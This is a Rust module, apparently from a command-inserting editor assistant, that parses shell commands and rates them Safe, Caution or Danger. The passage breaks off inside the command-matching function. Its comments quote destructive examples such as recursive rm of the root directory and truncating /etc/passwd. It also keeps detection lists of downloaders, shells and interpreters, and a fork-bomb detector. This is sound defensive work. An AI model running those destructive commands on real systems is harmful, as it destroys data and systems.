//! Risk assessment for generated shell commands.
//!
//! superhelfer never executes a command it generated; it inserts it into the
//! user's file. Before doing so it calls [`assess`] so the editor can warn about
//! commands that could destroy data, lock the user out of a remote machine or
//! run code fetched from the network.
//!
//! The command is tokenised and parsed like a POSIX shell would (quotes,
//! escapes, pipelines, lists, redirections, subshells, command substitution,
//! here-documents) instead of matched by substring, so that
//! `echo "rm -rf /"` is harmless while `sudo rm -r -f -- /` is not. Wrappers
//! such as `sudo`, `env`, `xargs`, `timeout`, `ssh host …` and `sh -c '…'`
//! are looked through, and nested scripts (`$( )`, backticks, `-exec`,
//! `eval`, here-documents fed to a shell) are assessed recursively.
//!
//! The assessment is heuristic and errs on the side of warning: an unknown
//! command is `Safe`, a known state-changing one `Caution`, and a known
//! destructive pattern `Danger`.

use serde::Serialize;

/// How much damage a command could do; ordered so that `max` picks the worst.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum RiskLevel {
    /// Reads or creates things; nothing existing is lost.
    Safe,
    /// Changes state in an ordinary, usually intended way (deletes named files,
    /// installs packages, kills a process). Worth a second look.
    Caution,
    /// Can destroy data or a system wholesale, lock the user out, or run code
    /// downloaded from the network.
    Danger,
}

/// The verdict on one command: its level and short human-readable reasons
/// (empty for a plain `Safe`).
#[derive(Debug, Clone, Serialize)]
pub struct RiskReport {
    /// The worst level found anywhere in the command.
    pub level: RiskLevel,
    /// Why; one entry per distinct finding, worst first.
    pub reasons: Vec<String>,
}

/// Assesses what `command` (one or more lines of POSIX-ish shell) could destroy.
///
/// Never panics and never executes anything; runs in microseconds for
/// ordinary commands.
pub fn assess(command: &str) -> RiskReport {
    let mut acc = Acc::default();
    assess_script(command, 0, &mut acc);
    acc.finish()
}

// ---------------------------------------------------------------------------
// Accumulator
// ---------------------------------------------------------------------------

#[derive(Default)]
struct Acc {
    findings: Vec<(RiskLevel, String)>,
    git_reset_hard: bool,
    git_clean_all: bool,
}

impl Acc {
    fn add(&mut self, level: RiskLevel, reason: impl Into<String>) {
        let reason = reason.into();
        if !self
            .findings
            .iter()
            .any(|(l, r)| *l == level && *r == reason)
        {
            self.findings.push((level, reason));
        }
    }
    fn danger(&mut self, reason: impl Into<String>) {
        self.add(RiskLevel::Danger, reason);
    }
    fn caution(&mut self, reason: impl Into<String>) {
        self.add(RiskLevel::Caution, reason);
    }

    fn finish(mut self) -> RiskReport {
        if self.git_reset_hard && self.git_clean_all {
            self.danger(
                "git reset --hard plus git clean -x: all uncommitted work and all untracked and ignored files are lost",
            );
        }
        let level = self
            .findings
            .iter()
            .map(|(l, _)| *l)
            .max()
            .unwrap_or(RiskLevel::Safe);
        // Worst first, stable otherwise; Safe notes are dropped.
        self.findings.sort_by_key(|f| std::cmp::Reverse(f.0));
        let reasons = self
            .findings
            .into_iter()
            .filter(|(l, _)| *l > RiskLevel::Safe)
            .map(|(_, r)| r)
            .collect();
        RiskReport { level, reasons }
    }
}

/// Nested scripts deeper than this are not looked into; guards the stack
/// against hostile input such as thousands of nested `$(`.
const MAX_DEPTH: usize = 8;

// ---------------------------------------------------------------------------
// Lexer
// ---------------------------------------------------------------------------

/// One shell word after quote removal. Substitutions are kept verbatim in
/// `text` (`$HOME`, `$(pwd)`) and the scripts inside `$( )`, backticks and
/// `<( )` are collected in `subs` for recursive assessment.
#[derive(Debug, Clone, Default)]
struct Word {
    text: String,
    /// Some part of the word was quoted or escaped.
    quoted: bool,
    /// An unquoted glob character (`*`, `?`, `[`) occurs.
    glob: bool,
    subs: Vec<String>,
    /// The word is a process substitution `<( )` / `>( )`.
    procsub: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Op {
    Pipe,
    And,
    Or,
    Semi,
    Amp,
    Newline,
    LParen,
    RParen,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum RedirKind {
    /// `>`, `>|`, `&>`, `>&file`: truncates the target.
    Write,
    /// `>>`, `&>>`: appends.
    Append,
    /// `<`, `<>`.
    Read,
    /// `<<`, `<<-`: here-document, body attached.
    Heredoc,
    /// `<<<`.
    Herestring,
    /// `>&N`, `<&N`: fd duplication.
    Dup,
}

#[derive(Debug, Clone)]
struct Redir {
    kind: RedirKind,
    target: Word,
    body: String,
}

#[derive(Debug, Clone)]
enum Tok {
    Word(Word),
    Op(Op),
    Redir(Redir),
}

struct Lexer<'a> {
    chars: Vec<char>,
    pos: usize,
    toks: Vec<Tok>,
    /// Here-documents whose bodies start after the next newline:
    /// (token index, delimiter, strip leading tabs).
    pending_heredocs: Vec<(usize, String, bool)>,
    _src: &'a str,
}

fn is_op_char(c: char) -> bool {
    matches!(c, '|' | '&' | ';' | '(' | ')' | '<' | '>' | '\n')
}

fn lex(src: &str) -> Vec<Tok> {
    let mut lx = Lexer {
        chars: src.chars().collect(),
        pos: 0,
        toks: Vec::new(),
        pending_heredocs: Vec::new(),
        _src: src,
    };
    lx.run();
    lx.toks
}

impl Lexer<'_> {
    fn peek(&self, off: usize) -> Option<char> {
        self.chars.get(self.pos + off).copied()
    }

    fn run(&mut self) {
        while self.pos < self.chars.len() {
            let c = self.chars[self.pos];
            match c {
                ' ' | '\t' | '\r' => self.pos += 1,
                '\\' if self.peek(1) == Some('\n') => self.pos += 2,
                '#' => {
                    while self.pos < self.chars.len() && self.chars[self.pos] != '\n' {
                        self.pos += 1;
                    }
                }
                '\n' => {
                    self.pos += 1;
                    self.toks.push(Tok::Op(Op::Newline));
                    self.read_heredoc_bodies();
                }
                '|' => {
                    if self.peek(1) == Some('|') {
                        self.pos += 2;
                        self.toks.push(Tok::Op(Op::Or));
                    } else {
                        // `|&` pipes stderr too; same thing for us.
                        self.pos += if self.peek(1) == Some('&') { 2 } else { 1 };
                        self.toks.push(Tok::Op(Op::Pipe));
                    }
                }
                '&' => {
                    if self.peek(1) == Some('&') {
                        self.pos += 2;
                        self.toks.push(Tok::Op(Op::And));
                    } else if self.peek(1) == Some('>') {
                        self.pos += 2;
                        let kind = if self.peek(0) == Some('>') {
                            self.pos += 1;
                            RedirKind::Append
                        } else {
                            RedirKind::Write
                        };
                        self.redirect(kind);
                    } else {
                        self.pos += 1;
                        self.toks.push(Tok::Op(Op::Amp));
                    }
                }
                ';' => {
                    // `;;` in case statements is just a separator for us.
                    self.pos += if self.peek(1) == Some(';') { 2 } else { 1 };
                    self.toks.push(Tok::Op(Op::Semi));
                }
                '(' => {
                    self.pos += 1;
                    self.toks.push(Tok::Op(Op::LParen));
                }
                ')' => {
                    self.pos += 1;
                    self.toks.push(Tok::Op(Op::RParen));
                }
                '<' | '>' => self.angle(),
                _ => {
                    let w = self.word();
                    // `2>file`: a word of digits glued to a redirection is an fd.
                    let fd_prefix = !w.quoted
                        && !w.text.is_empty()
                        && w.text.chars().all(|c| c.is_ascii_digit())
                        && matches!(self.peek(0), Some('<') | Some('>'));
                    if !fd_prefix {
                        self.toks.push(Tok::Word(w));
                    }
                }
            }
        }
    }

    fn angle(&mut self) {
        let c = self.chars[self.pos];
        let n1 = self.peek(1);
        if n1 == Some('(') {
            // Process substitution.
            self.pos += 2;
            let inner = self.balanced(')');
            let w = Word {
                text: format!("{c}({inner})"),
                subs: vec![inner],
                procsub: true,
                ..Word::default()
            };
            self.toks.push(Tok::Word(w));
            return;
        }
        if c == '>' {
            match n1 {
                Some('>') => {
                    self.pos += 2;
                    self.redirect(RedirKind::Append)
                }
                Some('|') => {
                    self.pos += 2;
                    self.redirect(RedirKind::Write)
                }
                Some('&') => {
                    self.pos += 2;
                    self.dup_or_write();
                }
                _ => {
                    self.pos += 1;
                    self.redirect(RedirKind::Write)
                }
            }
        } else {
            match (n1, self.peek(2)) {
                (Some('<'), Some('<')) => {
                    self.pos += 3;
                    self.redirect(RedirKind::Herestring)
                }
                (Some('<'), Some('-')) => {
                    self.pos += 3;
                    self.heredoc(true)
                }
                (Some('<'), _) => {
                    self.pos += 2;
                    self.heredoc(false)
                }
                (Some('&'), _) => {
                    self.pos += 2;
                    self.redirect(RedirKind::Dup)
                }
                (Some('>'), _) => {
                    self.pos += 2;
                    self.redirect(RedirKind::Read)
                }
                _ => {
                    self.pos += 1;
                    self.redirect(RedirKind::Read)
                }
            }
        }
    }

    fn skip_blanks(&mut self) {
        while matches!(self.peek(0), Some(' ') | Some('\t')) {
            self.pos += 1;
        }
    }

    fn redirect(&mut self, kind: RedirKind) {
        self.skip_blanks();
        let target = match self.peek(0) {
            Some(c) if !is_op_char(c) => self.word(),
            _ => Word::default(),
        };
        self.toks.push(Tok::Redir(Redir {
            kind,
            target,
            body: String::new(),
        }));
    }

    /// `>&2` duplicates an fd, `>&file` (bash) writes to a file.
    fn dup_or_write(&mut self) {
        self.skip_blanks();
        let target = match self.peek(0) {
            Some(c) if !is_op_char(c) => self.word(),
            _ => Word::default(),
        };
        let is_fd = target.text == "-" || target.text.chars().all(|c| c.is_ascii_digit());
        let kind = if is_fd {
            RedirKind::Dup
        } else {
            RedirKind::Write
        };
        self.toks.push(Tok::Redir(Redir {
            kind,
            target,
            body: String::new(),
        }));
    }

    fn heredoc(&mut self, strip_tabs: bool) {
        self.skip_blanks();
        let delim = match self.peek(0) {
            Some(c) if !is_op_char(c) => self.word(),
            _ => Word::default(),
        };
        let idx = self.toks.len();
        self.toks.push(Tok::Redir(Redir {
            kind: RedirKind::Heredoc,
            target: delim.clone(),
            body: String::new(),
        }));
        if !delim.text.is_empty() {
            self.pending_heredocs.push((idx, delim.text, strip_tabs));
        }
    }

    fn read_line(&mut self) -> Option<String> {
        if self.pos >= self.chars.len() {
            return None;
        }
        let start = self.pos;
        while self.pos < self.chars.len() && self.chars[self.pos] != '\n' {
            self.pos += 1;
        }
        let line: String = self.chars[start..self.pos].iter().collect();
        if self.pos < self.chars.len() {
            self.pos += 1;
        }
        Some(line)
    }

    fn read_heredoc_bodies(&mut self) {
        let pending = std::mem::take(&mut self.pending_heredocs);
        for (idx, delim, strip_tabs) in pending {
            let mut body = String::new();
            while let Some(line) = self.read_line() {
                let cmp = if strip_tabs {
                    line.trim_start_matches('\t')
                } else {
                    line.as_str()
                };
                if cmp.trim_end_matches('\r') == delim {
                    break;
                }
                body.push_str(&line);
                body.push('\n');
            }
            if let Some(Tok::Redir(r)) = self.toks.get_mut(idx) {
                r.body = body;
            }
        }
    }

    /// Reads up to the `close` that balances an already consumed opener,
    /// honouring quotes and escapes; returns the text in between.
    fn balanced(&mut self, close: char) -> String {
        let open = if close == ')' { '(' } else { '{' };
        let start = self.pos;
        let mut depth = 1usize;
        let mut in_single = false;
        let mut in_double = false;
        while self.pos < self.chars.len() {
            let c = self.chars[self.pos];
            if in_single {
                if c == '\'' {
                    in_single = false;
                }
            } else if c == '\\' {
                self.pos += 1;
            } else if in_double {
                if c == '"' {
                    in_double = false;
                }
            } else if c == '\'' {
                in_single = true;
            } else if c == '"' {
                in_double = true;
            } else if c == open {
                depth += 1;
            } else if c == close {
                depth -= 1;
                if depth == 0 {
                    let inner: String = self.chars[start..self.pos].iter().collect();
                    self.pos += 1;
                    return inner;
                }
            }
            self.pos += 1;
        }
        let end = self.pos.min(self.chars.len());
        self.chars[start..end].iter().collect()
    }

    /// A backtick substitution inside a word: kept as `$(…)` and recorded as a sub-script.
    fn backtick_word(&mut self, w: &mut Word) {
        self.pos += 1;
        let inner = self.backtick();
        w.text.push_str("$(");
        w.text.push_str(&inner);
        w.text.push(')');
        w.subs.push(inner);
    }

    fn backtick(&mut self) -> String {
        let mut inner = String::new();
        while self.pos < self.chars.len() {
            let c = self.chars[self.pos];
            self.pos += 1;
            match c {
                '`' => break,
                '\\' => {
                    if let Some(n) = self.peek(0) {
                        self.pos += 1;
                        if !matches!(n, '`' | '\\' | '$') {
                            inner.push('\\');
                        }
                        inner.push(n);
                    }
                }
                _ => inner.push(c),
            }
        }
        inner
    }

    /// `$…` at the current position (the `$` not yet consumed).
    fn dollar(&mut self, w: &mut Word) {
        self.pos += 1;
        match self.peek(0) {
            Some('(') if self.peek(1) == Some('(') => {
                self.pos += 2;
                let inner = self.balanced(')');
                // Arithmetic `$(( ))`: consume the second `)` too.
                if self.peek(0) == Some(')') {
                    self.pos += 1;
                }
                w.text.push_str("$((");
                w.text.push_str(&inner);
                w.text.push_str("))");
            }
            Some('(') => {
                self.pos += 1;
                let inner = self.balanced(')');
                w.text.push_str("$(");
                w.text.push_str(&inner);
                w.text.push(')');
                w.subs.push(inner);
            }
            Some('{') => {
                self.pos += 1;
                let inner = self.balanced('}');
                w.text.push_str("${");
                w.text.push_str(&inner);
                w.text.push('}');
            }
            Some('\'') => {
                // ANSI-C quoting $'…'.
                self.pos += 1;
                w.quoted = true;
                while let Some(c) = self.peek(0) {
                    self.pos += 1;
                    match c {
                        '\'' => break,
                        '\\' => {
                            if let Some(n) = self.peek(0) {
                                self.pos += 1;
                                w.text.push(match n {
                                    'n' => '\n',
                                    't' => '\t',
                                    _ => n,
                                });
                            }
                        }
                        _ => w.text.push(c),
                    }
                }
            }
            _ => w.text.push('$'),
        }
    }

    fn word(&mut self) -> Word {
        let mut w = Word::default();
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' | '\r' => break,
                c if is_op_char(c) => break,
                '\\' => {
                    self.pos += 1;
                    match self.peek(0) {
                        Some('\n') => self.pos += 1,
                        Some(n) => {
                            self.pos += 1;
                            w.quoted = true;
                            w.text.push(n);
                        }
                        None => {}
                    }
                }
                '\'' => {
                    self.pos += 1;
                    w.quoted = true;
                    while let Some(c) = self.peek(0) {
                        self.pos += 1;
                        if c == '\'' {
                            break;
                        }
                        w.text.push(c);
                    }
                }
                '"' => {
                    self.pos += 1;
                    w.quoted = true;
                    while let Some(c) = self.peek(0) {
                        match c {
                            '"' => {
                                self.pos += 1;
                                break;
                            }
                            '\\' => {
                                self.pos += 1;
                                if let Some(n) = self.peek(0) {
                                    self.pos += 1;
                                    if !matches!(n, '"' | '\\' | '$' | '`' | '\n') {
                                        w.text.push('\\');
                                    }
                                    if n != '\n' {
                                        w.text.push(n);
                                    }
                                }
                            }
                            '$' => self.dollar(&mut w),
                            '`' => self.backtick_word(&mut w),
                            _ => {
                                self.pos += 1;
                                w.text.push(c);
                            }
                        }
                    }
                }
                '$' => self.dollar(&mut w),
                '`' => self.backtick_word(&mut w),
                '*' | '?' | '[' => {
                    self.pos += 1;
                    w.glob = true;
                    w.text.push(c);
                }
                _ => {
                    self.pos += 1;
                    w.text.push(c);
                }
            }
        }
        w
    }
}

// ---------------------------------------------------------------------------
// Parser: tokens -> pipelines of simple commands
// ---------------------------------------------------------------------------

#[derive(Debug, Default, Clone)]
struct Cmd {
    words: Vec<Word>,
    redirs: Vec<Redir>,
}

#[derive(Debug, Default)]
struct Pipeline {
    cmds: Vec<Cmd>,
}

/// Reserved words that introduce or close compound commands; they are dropped
/// so that `if rm -rf /; then …` is seen as `rm -rf /`.
fn is_keyword(s: &str) -> bool {
    matches!(
        s,
        "{" | "}"
            | "!"
            | "if"
            | "then"
            | "else"
            | "elif"
            | "fi"
            | "do"
            | "done"
            | "while"
            | "until"
            | "esac"
            | "time"
            | "[["
            | "]]"
    )
}

fn parse(toks: &[Tok]) -> Vec<Pipeline> {
    let mut out = Vec::new();
    let mut cur = Pipeline::default();
    let mut cmd = Cmd::default();
    let flush_cmd = |cmd: &mut Cmd, cur: &mut Pipeline| {
        if !cmd.words.is_empty() || !cmd.redirs.is_empty() {
            cur.cmds.push(std::mem::take(cmd));
        }
    };
    let mut skip_until_sep = false;
    for t in toks {
        match t {
            Tok::Word(w) => {
                if skip_until_sep {
                    continue;
                }
                if cmd.words.is_empty() && !w.quoted && is_keyword(&w.text) {
                    continue;
                }
                if cmd.words.is_empty()
                    && !w.quoted
                    && matches!(w.text.as_str(), "for" | "case" | "select")
                {
                    // Loop/case headers only list words; skip to the separator.
                    skip_until_sep = true;
                    continue;
                }
                cmd.words.push(w.clone());
            }
            Tok::Redir(r) => cmd.redirs.push(r.clone()),
            Tok::Op(Op::Pipe) => {
                skip_until_sep = false;
                flush_cmd(&mut cmd, &mut cur);
            }
            Tok::Op(_) => {
                skip_until_sep = false;
                flush_cmd(&mut cmd, &mut cur);
                if !cur.cmds.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
        }
    }
    flush_cmd(&mut cmd, &mut cur);
    if !cur.cmds.is_empty() {
        out.push(cur);
    }
    out
}

// ---------------------------------------------------------------------------
// Script-level analysis
// ---------------------------------------------------------------------------

fn assess_script(src: &str, depth: usize, acc: &mut Acc) {
    if depth > MAX_DEPTH {
        return;
    }
    let toks = lex(src);
    detect_fork_bomb(&toks, acc);
    for p in parse(&toks) {
        for (i, cmd) in p.cmds.iter().enumerate() {
            let prev = if i > 0 { p.cmds.get(i - 1) } else { None };
            let upstream = &p.cmds[..i];
            analyze_cmd(cmd, prev, upstream, depth, acc);
        }
    }
}

/// `name(){ name|name& }` and friends: a function that calls itself in a pipe
/// or in the background multiplies processes until the machine dies.
fn detect_fork_bomb(toks: &[Tok], acc: &mut Acc) {
    let word = |i: usize| match toks.get(i) {
        Some(Tok::Word(w)) => Some(w.text.as_str()),
        _ => None,
    };
    let op = |i: usize| match toks.get(i) {
        Some(Tok::Op(o)) => Some(*o),
        _ => None,
    };
    for i in 0..toks.len() {
        let (name, body_start) = if word(i) == Some("function") {
            match word(i + 1) {
                Some(n) => {
                    let mut j = i + 2;
                    if op(j) == Some(Op::LParen) && op(j + 1) == Some(Op::RParen) {
                        j += 2;
                    }
                    (n, j)
                }
                None => continue,
            }
        } else if let (Some(n), Some(Op::LParen), Some(Op::RParen)) =
            (word(i), op(i + 1), op(i + 2))
        {
            (n, i + 3)
        } else {
            continue;
        };
        let mut depth = 0i32;
        let mut calls_self = false;
        let mut forks = false;
        for t in toks.iter().skip(body_start) {
            match t {
                Tok::Word(w) if w.text == "{" => depth += 1,
                Tok::Word(w) if w.text == "}" => {
                    depth -= 1;
                    if depth <= 0 {
                        break;
                    }
                }
                Tok::Word(w) if w.text == name => calls_self = true,
                Tok::Op(Op::Pipe) | Tok::Op(Op::Amp) => forks = true,
                Tok::Op(Op::LParen) => depth += 1,
                Tok::Op(Op::RParen) => {
                    depth -= 1;
                    if depth <= 0 {
                        break;
                    }
                }
                _ => {}
            }
        }
        if calls_self && forks {
            acc.danger(format!(
                "fork bomb: function '{name}' spawns copies of itself until the system hangs"
            ));
        }
    }
}

fn basename(s: &str) -> &str {
    s.rsplit('/').next().unwrap_or(s)
}

fn is_assignment(w: &Word) -> bool {
    match w.text.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit())
        }
        None => false,
    }
}

/// Options of wrapper commands that consume the following word.
fn wrapper_opt_takes_arg(wrapper: &str, opt: &str) -> bool {
    match wrapper {
        "sudo" => matches!(
            opt,
            "-u" | "-g"
                | "-C"
                | "-D"
                | "-h"
                | "-p"
                | "-r"
                | "-t"
                | "-T"
                | "-U"
                | "--user"
                | "--group"
        ),
        "doas" => matches!(opt, "-u" | "-C"),
        "env" => matches!(opt, "-u" | "-C" | "-S" | "--unset" | "--chdir"),
        "nice" => matches!(opt, "-n" | "--adjustment"),
        "timeout" => matches!(opt, "-s" | "-k" | "--signal" | "--kill-after"),
        "ionice" => matches!(opt, "-c" | "-n" | "-p" | "-t"),
        "stdbuf" => matches!(opt, "-i" | "-o" | "-e"),
        "xargs" => matches!(
            opt,
            "-I" | "-n"
                | "-P"
                | "-d"
                | "-L"
                | "-s"
                | "-E"
                | "-a"
                | "-e"
                | "-i"
                | "--max-args"
                | "--max-procs"
                | "--delimiter"
                | "--arg-file"
        ),
        "watch" => matches!(opt, "-n" | "--interval" | "-d"),
        "chrt" | "taskset" => false,
        "runuser" | "su" => matches!(opt, "-u" | "-g" | "-G" | "-s" | "--shell" | "--group"),
        _ => false,
    }
}

/// The command a wrapped invocation really runs.
struct Effective<'a> {
    name: String,
    args: &'a [Word],
    via_xargs: bool,
}

fn unwrap_cmd(words: &[Word]) -> Option<Effective<'_>> {
    let mut i = 0;
    let mut via_xargs = false;
    loop {
        while i < words.len() && is_assignment(&words[i]) {
            i += 1;
        }
        let w = words.get(i)?;
        let name = basename(&w.text).to_string();
        match name.as_str() {
            "sudo" | "doas" | "env" | "nice" | "nohup" | "timeout" | "xargs" | "ionice"
            | "stdbuf" | "command" | "builtin" | "exec" | "time" | "caffeinate" | "chronic"
            | "unbuffer" | "watch" | "torsocks" | "proxychains" | "proxychains4" | "runuser"
            | "setsid" | "flock" | "chrt" | "taskset" | "systemd-run" | "pkexec" | "busybox" => {
                if name == "xargs" {
                    via_xargs = true;
                }
                i += 1;
                let mut positional_skipped = false;
                while let Some(a) = words.get(i) {
                    let t = a.text.as_str();
                    if t == "--" {
                        i += 1;
                        break;
                    }
                    if t.starts_with('-') && t.len() > 1 {
                        let opt = t.split('=').next().unwrap_or(t);
                        i += 1;
                        if !t.contains('=') && wrapper_opt_takes_arg(&name, opt) {
                            i += 1;
                        }
                        continue;
                    }
                    if name == "env" && is_assignment(a) {
                        i += 1;
                        continue;
                    }
                    // timeout DURATION, flock FILE, chrt PRIO, taskset MASK take one positional.
                    if matches!(name.as_str(), "timeout" | "flock" | "chrt" | "taskset")
                        && !positional_skipped
                    {
                        positional_skipped = true;
                        i += 1;
                        continue;
                    }
                    break;
                }
            }
            _ => {
                return Some(Effective {
                    name,
                    args: &words[i + 1..],
                    via_xargs,
                });
            }
        }
    }
}

fn analyze_cmd(cmd: &Cmd, prev: Option<&Cmd>, upstream: &[Cmd], depth: usize, acc: &mut Acc) {
    for w in &cmd.words {
        for s in &w.subs {
            assess_script(s, depth + 1, acc);
        }
    }
    for r in &cmd.redirs {
        for s in &r.target.subs {
            assess_script(s, depth + 1, acc);
        }
        analyze_redirect(r, acc);
    }
    let bare = cmd.words.len() == 1 && matches!(cmd.words[0].text.as_str(), ":" | "true");
    let eff = if bare { None } else { unwrap_cmd(&cmd.words) };
    let Some(eff) = eff else {
        // A bare redirection such as `> /etc/passwd` truncates its target.
        for r in &cmd.redirs {
            if r.kind == RedirKind::Write {
                let t = r.target.text.as_str();
                if !is_harmless_dev(t) && !is_device(t) && !is_critical_file(t) {
                    acc.caution(format!("truncates {t}"));
                }
            }
        }
        return;
    };
    let args: Vec<&str> = eff.args.iter().map(|w| w.text.as_str()).collect();
    let ctx = Ctx {
        eff: &eff,
        args: &args,
        cmd,
        prev,
        upstream,
        depth,
    };
    analyze_effective(&ctx, acc);
    analyze_generic_args(&ctx, acc);
}

/// Checks that apply to any command: output files in system locations and
/// in-place rewriting flags.
fn analyze_generic_args(ctx: &Ctx, acc: &mut Acc) {
    let args = ctx.args;
    for (i, a) in args.iter().enumerate() {
        let out = if matches!(*a, "-o" | "--output" | "--out" | "-O" | "--output-document") {
            args.get(i + 1).copied()
        } else {
            a.strip_prefix("--output=")
                .or_else(|| a.strip_prefix("--output-document="))
        };
        if let Some(o) = out {
            if is_device(o) {
                acc.danger(format!(
                    "{} writes its output onto the device {o}",
                    ctx.eff.name
                ));
            } else if is_critical_file(o) {
                acc.danger(format!("{} overwrites the critical file {o}", ctx.eff.name));
            } else if is_system_file(o) {
                acc.caution(format!("writes the system file {o}"));
            }
        }
        if matches!(*a, "--overwrite" | "--in-place") {
            acc.caution(format!("{} rewrites files in place", ctx.eff.name));
        }
    }
    if matches!(ctx.eff.name.as_str(), "curl" | "http" | "https" | "wget") {
        let method = args.iter().enumerate().find_map(|(i, a)| {
            if matches!(*a, "-X" | "--request" | "--method") {
                args.get(i + 1).copied()
            } else {
                a.strip_prefix("-X")
                    .filter(|m| !m.is_empty())
                    .or_else(|| a.strip_prefix("--request="))
                    .or_else(|| a.strip_prefix("--method="))
            }
        });
        let positional_method = ctx.eff.name.starts_with("http")
            && args
                .iter()
                .any(|a| matches!(*a, "PUT" | "DELETE" | "PATCH"));
        if method
            .is_some_and(|m| matches!(m.to_ascii_uppercase().as_str(), "PUT" | "DELETE" | "PATCH"))
            || positional_method
        {
            acc.caution("sends a modifying HTTP request (PUT/DELETE/PATCH)");
        }
    }
}

/// Files whose change affects the whole system or the user's shell setup.
fn is_system_file(t: &str) -> bool {
    [
        "/etc/",
        "/boot/",
        "/usr/",
        "/proc/sys",
        "/sys/",
        "/lib/",
        "/bin/",
        "/sbin/",
        "/var/lib/",
    ]
    .iter()
    .any(|p| t.starts_with(p))
        && !is_harmless_dev(t)
}

/// Dotfiles in a home directory (`~/.bashrc`): changing them alters every new shell.
fn is_home_dotfile(t: &str) -> bool {
    ["~/.", "$HOME/.", "${HOME}/.", "/root/."]
        .iter()
        .any(|p| t.starts_with(p) && !t[p.len()..].contains('/'))
}

struct Ctx<'a> {
    eff: &'a Effective<'a>,
    args: &'a [&'a str],
    cmd: &'a Cmd,
    prev: Option<&'a Cmd>,
    upstream: &'a [Cmd],
    depth: usize,
}

impl Ctx<'_> {
    fn has_flag(&self, short: char, long: &[&str]) -> bool {
        has_flag(self.args, short, long)
    }
    fn positionals(&self) -> Vec<&Word> {
        positionals(self.eff.args)
    }
}

/// True if `short` occurs in a cluster of short options (`-rf`) or one of the
/// long options is present. Stops at `--`.
fn has_flag(args: &[&str], short: char, long: &[&str]) -> bool {
    for a in args {
        if *a == "--" {
            break;
        }
        if a.starts_with("--") {
            let name = a.split('=').next().unwrap_or(a);
            if long.contains(&name) {
                return true;
            }
        } else if a.starts_with('-') && a.len() > 1 && a[1..].contains(short) {
            return true;
        }
    }
    false
}

/// Non-option words (everything after `--` counts as positional).
fn positionals(words: &[Word]) -> Vec<&Word> {
    let mut out = Vec::new();
    let mut opts_done = false;
    for w in words {
        if !opts_done && w.text == "--" {
            opts_done = true;
            continue;
        }
        if !opts_done && w.text.starts_with('-') && w.text.len() > 1 && !w.quoted {
            continue;
        }
        out.push(w);
    }
    out
}

const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "csh", "tcsh", "yash",
];
const INTERPRETERS: &[&str] = &[
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "nodejs",
    "php",
    "deno",
    "bun",
    "lua",
    "pwsh",
    "powershell",
    "iex",
    "invoke-expression",
];
const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "http",
    "https",
    "aria2c",
    "iwr",
    "invoke-webrequest",
    "irm",
    "invoke-restmethod",
    "lynx",
    "links",
];

fn is_shell(name: &str) -> bool {
    SHELLS.contains(&name)
}

fn script_downloads(src: &str) -> bool {
    let toks = lex(src);
    parse(&toks).iter().any(|p| {
        p.cmds.iter().any(|c| {
            unwrap_cmd(&c.words)
                .is_some_and(|e| DOWNLOADERS.contains(&e.name.to_ascii_lowercase().as_str()))
        })
    })
}

/// The first simple command of a nested script, e.g. `find / -name x` of `$(find / -name x)`.
fn first_cmd(src: &str) -> Option<Cmd> {
    let toks = lex(src);
    parse(&toks)
        .into_iter()
        .next()
        .and_then(|p| p.cmds.into_iter().next())
}

// One arm per command name; folding the inner `if`s into guards would let a
// command that fails its guard fall through to unrelated later arms.
#[allow(clippy::collapsible_match)]
fn analyze_effective(ctx: &Ctx, acc: &mut Acc) {
    let name = ctx.eff.name.as_str();
    let lname = name.to_ascii_lowercase();

    // Interpreters fed from a download.
    if is_shell(name) || INTERPRETERS.contains(&lname.as_str()) {
        analyze_interpreter(ctx, acc);
        if is_shell(name) {
            return;
        }
    }

    match name {
        "rm" | "unlink" | "srm" => analyze_rm(ctx, acc),
        "rmdir" => {
            if ctx
                .positionals()
                .iter()
                .any(|w| classify(&w.text).is_some_and(|c| c.level(false) == RiskLevel::Danger))
            {
                acc.caution("removes (empty) system directories");
            } else {
                acc.caution("removes directories");
            }
        }
        "find" => analyze_find(ctx, acc),
        "dd" => analyze_dd(ctx, acc),
        "shred" | "wipe" => {
            if ctx.positionals().iter().any(|w| is_device(&w.text)) {
                acc.danger("shred overwrites a whole disk device");
            } else if ctx.positionals().iter().any(|w| is_critical_file(&w.text)) {
                acc.danger("shred destroys a critical system file");
            } else {
                acc.caution("irrecoverably overwrites files");
            }
        }
        n if n.starts_with("mkfs")
            || matches!(
                n,
                "mke2fs" | "mkdosfs" | "mkntfs" | "newfs" | "mkswap" | "mkexfatfs"
            ) =>
        {
            // A device (or something we cannot see, like a variable) is wiped; an image or swap file is routine.
            let pos = ctx.positionals();
            let on_device = pos
                .iter()
                .any(|w| is_device(&w.text) || w.text.starts_with('$'))
                || pos.is_empty();
            if on_device {
                acc.danger(format!(
                    "{n} creates a new filesystem, erasing everything on the device"
                ));
            } else {
                acc.caution(format!("{n} formats a file (its contents are replaced)"));
            }
        }
        "fsck" | "e2fsck" | "xfs_repair" | "btrfs" | "tune2fs" | "resize2fs" | "ntfsfix"
        | "dosfsck" | "fsck.ext4" | "fsck.vfat" | "xfs_growfs" => {
            let read_only = ctx.has_flag('n', &[])
                || (name == "btrfs"
                    && ctx
                        .args
                        .iter()
                        .any(|a| matches!(*a, "show" | "list" | "df" | "usage")))
                || (name == "tune2fs"
                    && ctx.args.iter().all(|a| *a == "-l" || !a.starts_with('-')));
            if !read_only && !ctx.args.is_empty() {
                acc.caution(format!("{name} modifies a filesystem"));
            }
        }
        "unzip" if ctx.has_flag('o', &[]) => {
            acc.caution("unzip -o overwrites existing files without asking")
        }
        "make" | "ninja" | "cmake"
            if ctx.args.iter().any(|a| {
                matches!(
                    *a,
                    "install" | "uninstall" | "clean" | "distclean" | "--install"
                )
            }) =>
        {
            acc.caution("make install/clean writes or deletes files outside the build")
        }
        "patch" | "rename" | "prename" | "perl-rename" | "mmv" => {
